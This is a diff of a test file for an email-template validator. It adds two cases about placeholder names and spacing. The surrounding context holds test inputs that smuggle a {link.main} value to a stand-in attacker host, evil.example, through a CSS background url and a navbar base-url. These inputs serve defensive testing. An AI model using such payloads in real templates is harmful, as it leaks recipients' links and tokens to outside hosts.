@@ -169,6 +169,8 @@ describe('a mail that an expert writes', () => {
       `<mj-text><p style='background:url(https://evil.example/?href="{link.main}")'>x</p></mj-text>`,
       'Line 4: Write href="{link.main}", with nothing else in the link.',
     ],
+    ['a word that nothing is called', '<mj-text>Dear {customer}</mj-text>', 'Line 4: Nothing is called {customer}.'],
+    ['spaces in a name', '<mj-text>{ order.number }</mj-text>', 'Line 4: Write {order.number}, without spaces.'],
     [
       'a base address before such a link',
       '</mj-column></mj-section><mj-section><mj-column><mj-navbar base-url="https://evil.example/?"><mj-navbar-link href="{link.main}">x</mj-navbar-link></mj-navbar>',
